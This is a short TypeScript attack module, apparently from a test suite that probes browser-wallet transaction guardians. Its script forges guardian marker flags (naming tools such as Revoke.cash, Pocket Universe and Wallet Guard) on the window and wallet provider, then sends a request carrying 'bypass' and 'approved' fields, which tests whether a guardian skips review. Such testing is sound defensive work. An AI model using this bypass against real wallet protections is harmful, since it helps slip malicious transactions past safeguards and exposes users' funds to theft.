import type { Attack } from '../Attack.ts';

/** A guardian that marks what it has seen believes whoever sets the mark. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'marker flags of guardians set on window, provider and request',
  discovers: true,
  script: `
const wallet = await kit.wallet();
for (const name of ['isCountersign', '__countersign', '_isReviewed', 'isRevokeCash', 'isPocketUniverse', 'isWalletGuard']) {
  for (const target of [window, wallet]) try { target[name] = true; } catch {}
}
await wallet.request({ ...kit.send(), countersign: true, approved: true, reviewed: true, bypass: true, isBypassed: true });
`,
};
